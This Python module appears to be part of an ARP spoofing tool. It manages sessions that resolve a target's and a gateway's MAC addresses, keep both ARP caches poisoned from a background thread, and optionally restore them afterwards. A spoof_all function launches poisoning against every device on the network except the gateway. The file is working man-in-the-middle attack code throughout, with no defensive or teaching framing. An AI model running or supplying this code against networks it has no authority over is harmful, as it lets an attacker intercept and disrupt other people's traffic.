"""
ARP spoofing sessions.

A session (``Spoofer``) resolves the target and gateway hardware addresses and
then keeps both ARP caches poisoned from its own thread until it is stopped.
``SessionRegistry`` is the table of live sessions and enforces that a target
is spoofed at most once per interface.
"""

import logging
import threading
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import datetime
from enum import Enum
from typing import Callable, Dict, Iterable, List, Optional
from uuid import uuid4

from errors import (ArpSpoofError, LinkClosedError, NetworkError, ResolutionError,
                    SessionConflictError, SpoofingError)
from link import LinkHandle
from packets import ARPAttackPackets, ARPRestorePackets, Device
from resolver import MacResolver

logger = logging.getLogger(__name__)


class SessionState(Enum):
    CREATED = 'created'
    RESOLVING = 'resolving'
    ACTIVE = 'active'
    STOPPING = 'stopping'
    STOPPED = 'stopped'


@dataclass(frozen=True)
class SessionSnapshot:
    id: str
    target_ip: str
    target_mac: Optional[str]
    gateway_ip: str
    gateway_mac: Optional[str]
    interface: str
    attacker_mac: str
    is_active: bool
    packets_sent: int
    failed_sends: int
    created_at: str
    last_error: Optional[str] = None

    def to_dict(self) -> dict:
        return dict(self.__dict__)


@dataclass
class BatchResult:
    session_ids: List[str] = field(default_factory=list)
    failures: Dict[str, ArpSpoofError] = field(default_factory=dict)


class Spoofer(object):

    def __init__(self, *, handle: LinkHandle, resolver: MacResolver, target_ip: str,
                 gateway_ip: str, interval: float = 1.0, max_consecutive_failures: int = 10,
                 restore_count: int = 5):
        self.id = str(uuid4())
        self.target_ip = target_ip
        self.gateway_ip = gateway_ip
        self.interface = handle.name
        self.attacker_mac = handle.mac
        self.target_mac = None
        self.gateway_mac = None
        self.created_at = datetime.now().isoformat()
        self.packets_sent = 0  # written by the poison thread only
        self.failed_sends = 0
        self.last_error = None
        self.__handle = handle
        self.__resolver = resolver
        self.__interval = interval
        self.__max_failures = max_consecutive_failures
        self.__restore_count = restore_count
        self.__restore_on_exit = False
        self.__state = SessionState.CREATED
        self.__state_lock = threading.Lock()
        self.__finished = False
        self.__stop_event = threading.Event()
        self.__poison_thread = None
        self.__on_stopped: List[Callable[['Spoofer'], None]] = []

    @property
    def state(self) -> SessionState:
        return self.__state

    @property
    def is_active(self) -> bool:
        return self.__state is SessionState.ACTIVE

    @property
    def key(self) -> tuple:
        return self.target_ip, self.interface

    def add_stop_callback(self, callback: Callable[['Spoofer'], None]):
        self.__on_stopped.append(callback)

    def snapshot(self) -> SessionSnapshot:
        return SessionSnapshot(id=self.id, target_ip=self.target_ip, target_mac=self.target_mac,
                               gateway_ip=self.gateway_ip, gateway_mac=self.gateway_mac,
                               interface=self.interface, attacker_mac=self.attacker_mac,
                               is_active=self.is_active, packets_sent=self.packets_sent,
                               failed_sends=self.failed_sends, created_at=self.created_at,
                               last_error=self.last_error)

    def resolve(self):
        """Resolve both peers concurrently. Any failure leaves the session STOPPED."""
        with self.__state_lock:
            if self.__state is not SessionState.CREATED:
                raise SpoofingError(f'Session {self.id} cannot resolve from state {self.__state.value}')
            self.__state = SessionState.RESOLVING
        cancel = threading.Event()

        def _resolve(ip):
            try:
                return self.__resolver.resolve(ip, cancel)
            except NetworkError:
                cancel.set()
                raise

        with ThreadPoolExecutor(max_workers=2, thread_name_prefix=f'ARP-Resolve-{self.id[:8]}') as pool:
            target = pool.submit(_resolve, self.target_ip)
            gateway = pool.submit(_resolve, self.gateway_ip)
            errors = [(ip, future.exception()) for ip, future in
                      ((self.target_ip, target), (self.gateway_ip, gateway))]

        for ip, exc in errors:
            if exc is not None:
                with self.__state_lock:
                    self.__state = SessionState.STOPPED
                raise ResolutionError(f'Cannot resolve MAC address of {ip}', str(exc)) from exc
        self.target_mac = target.result()
        self.gateway_mac = gateway.result()
        logger.info(f'Resolved {self.target_ip} ({self.target_mac}) <-> '
                    f'{self.gateway_ip} ({self.gateway_mac})')

    def start(self):
        if self.target_mac is None or self.gateway_mac is None:
            raise ResolutionError(f'Session {self.id} has not been resolved')
        packets = ARPAttackPackets(self.attacker_mac, self.gateway_ip, self.gateway_mac,
                                   self.target_ip, self.target_mac)
        with self.__state_lock:
            if self.__state is not SessionState.RESOLVING:
                raise SpoofingError(f'Session {self.id} cannot start from state {self.__state.value}')
            self.__state = SessionState.ACTIVE
        self.__poison_thread = threading.Thread(target=self.__poison_loop, args=(packets,),
                                                name=f'ARP-Poisoner-{self.id[:8]}', daemon=True)
        self.__poison_thread.start()
        logger.info(f'ARP poisoning {self.target_ip} <-> {self.gateway_ip} on {self.interface} '
                    f'(session {self.id})')

    def stop(self, restore: bool = False, wait: bool = True) -> bool:
        """
        Ask the poison loop to exit at its next tick boundary.

        Returns False when the session was already stopping or stopped.
        """
        with self.__state_lock:
            if self.__state is not SessionState.ACTIVE:
                if self.__state in (SessionState.CREATED, SessionState.RESOLVING):
                    self.__state = SessionState.STOPPED
                return False
            self.__state = SessionState.STOPPING
            self.__restore_on_exit = restore
        self.__stop_event.set()
        if wait:
            self.join()
        return True

    def join(self, timeout: float = None):
        thread = self.__poison_thread
        if thread is not None and thread is not threading.current_thread():
            thread.join(timeout=timeout if timeout is not None else self.__interval * 2 + 1)

    def restore(self):
        """Send corrective replies carrying the real MAC addresses."""
        packets = ARPRestorePackets(self.attacker_mac, self.gateway_ip, self.gateway_mac,
                                    self.target_ip, self.target_mac)
        for _ in range(self.__restore_count):
            for frame in packets:
                self.__handle.send(frame)
        logger.info(f'ARP tables restored for {self.target_ip} <-> {self.gateway_ip}')

    def __send_tick(self, packets: ARPAttackPackets) -> int:
        sent = 0
        for frame in packets:
            try:
                self.__handle.send(frame)
            except LinkClosedError:
                raise
            except NetworkError as exc:
                self.failed_sends += 1
                self.last_error = str(exc)
                logger.warning(f'Session {self.id[:8]}: send failed, retrying next tick: {exc}')
                continue
            sent += 1
            self.packets_sent += 1
        return sent

    def __poison_loop(self, packets: ARPAttackPackets):
        consecutive_failures = 0
        try:
            while not self.__stop_event.is_set():
                if self.__send_tick(packets):
                    consecutive_failures = 0
                else:
                    consecutive_failures += 1
                    if consecutive_failures >= self.__max_failures:
                        logger.error(f'Session {self.id}: {consecutive_failures} consecutive '
                                     f'failed ticks, giving up')
                        break
                if self.__stop_event.wait(self.__interval):
                    break
            if self.__restore_on_exit:
                self.restore()
        except LinkClosedError as exc:
            self.last_error = str(exc)
            logger.error(f'Session {self.id}: interface unavailable, stopping: {exc}')
        except NetworkError as exc:
            self.last_error = str(exc)
            logger.error(f'Session {self.id}: restore failed: {exc}')
        finally:
            self.__finish()

    def __finish(self):
        with self.__state_lock:
            self.__state = SessionState.STOPPED
            if self.__finished:
                return
            self.__finished = True
        logger.info(f'Session {self.id} stopped after {self.packets_sent} packets')
        for callback in self.__on_stopped:
            callback(self)


class SessionRegistry(object):

    def __init__(self):
        self._lock = threading.Lock()
        self._sessions: Dict[str, Spoofer] = {}

    def admit(self, session: Spoofer):
        """Register ``session`` unless its (target, interface) pair is taken."""
        with self._lock:
            for other in self._sessions.values():
                if other.key == session.key:
                    raise SessionConflictError(
                        f'{session.target_ip} is already being spoofed on {session.interface}',
                        f'session {other.id}')
            self._sessions[session.id] = session

    def remove(self, session_id: str) -> Optional[Spoofer]:
        with self._lock:
            return self._sessions.pop(session_id, None)

    def get(self, session_id: str) -> Optional[Spoofer]:
        with self._lock:
            return self._sessions.get(session_id)

    def sessions(self, interface: str = None) -> List[Spoofer]:
        with self._lock:
            sessions = list(self._sessions.values())
        if interface is not None:
            sessions = [session for session in sessions if session.interface == interface]
        return sessions

    def list_active(self) -> List[SessionSnapshot]:
        return [session.snapshot() for session in self.sessions()]

    def stop(self, session_id: str, restore: bool = False) -> bool:
        session = self.remove(session_id)
        if session is None:
            return False
        return session.stop(restore=restore)

    def __len__(self):
        with self._lock:
            return len(self._sessions)


def spoof_all(devices: Iterable[Device], gateway_ip: str,
              start: Callable[[str], str]) -> BatchResult:
    """
    Start one session per device (the gateway itself excluded). Failures are
    collected per device IP and never abort the batch.
    """
    result = BatchResult()
    for device in devices:
        if device.ip == gateway_ip:
            continue
        try:
            result.session_ids.append(start(device.ip))
        except ArpSpoofError as exc:
            logger.warning(f'Failed to start spoofing for {device.ip}: {exc}')
            result.failures[device.ip] = exc
    logger.info(f'Started spoofing for {len(result.session_ids)} devices, '
                f'{len(result.failures)} failed')
    return result
